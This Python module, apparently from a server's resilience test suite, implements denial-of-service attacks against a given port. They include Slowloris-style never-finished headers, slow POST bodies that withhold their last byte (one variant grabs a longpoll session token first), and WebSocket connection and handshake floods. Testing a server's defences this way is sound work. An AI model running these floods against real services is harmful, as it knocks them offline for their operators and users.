"""Requests that never end, and floods of connections and handshakes."""

from __future__ import annotations

import time
from contextlib import suppress
from typing import Any

import gevent

from .attacker import Got, dial, handshake, status, still_open


def half_open_heads(port: int, seconds: float) -> Got:
    """Begin 1,500 requests, and end none."""
    socks = [dial(port, b"GET / HTTP/1.1\r\nHost: here\r\nX-A: ") for _ in range(1500)]
    return still_open(socks, seconds)


def stalled_posts(port: int, seconds: float) -> Got:
    """Begin 300 bodies of 7.9 MB for no session, and keep back the last byte."""
    return stall(port, "", seconds)


def stalled_posts_of_a_session(port: int, seconds: float) -> Got:
    """Do the same for a session that anybody may begin."""
    sock = dial(port, b"GET /socket/longpoll?vsn=2.0.0 HTTP/1.1\r\nHost: here\r\nConnection: close\r\n\r\n")
    answer = b""
    while piece := sock.recv(4096):
        answer += piece
    return stall(port, answer.split(b'"token":"')[1].split(b'"')[0].decode(), seconds)


def connection_flood(port: int, seconds: float) -> Got:
    """Open 3,000 WebSockets, and stay."""
    answers = Got()
    socks = [dial(port, handshake()) for _ in range(3000)]
    for sock in socks:
        answers[status(sock)] += 1
    gevent.sleep(seconds / 4)
    for sock in socks:
        sock.close()
    return answers


def handshake_flood(port: int, seconds: float) -> Got:
    """Open WebSockets from 200 greenlets as fast as can be, and close them again."""
    answers, end = Got(), time.monotonic() + seconds / 2

    def flood() -> None:
        while time.monotonic() < end:
            sock = dial(port, handshake())
            answers[status(sock)] += 1
            sock.close()

    gevent.joinall([gevent.spawn(flood) for _ in range(200)])
    return answers


def stall(port: int, token: str, seconds: float) -> Got:
    """Send bodies but for their last bytes."""
    size = 7_900_000
    head = f"POST /socket/longpoll?vsn=2.0.0&token={token} HTTP/1.1\r\nHost: here\r\nContent-Length: {size}\r\n\r\n"
    socks = [dial(port, head.encode()) for _ in range(300)]
    end = time.monotonic() + seconds

    def send(sock: Any) -> None:
        left = size - 1
        with suppress(OSError):
            while left and time.monotonic() < end:
                left -= sock.send(b"x" * min(left, 65536))

    gevent.joinall([gevent.spawn(send, sock) for sock in socks], timeout=seconds)
    return still_open(socks, max(0.0, end - time.monotonic()))
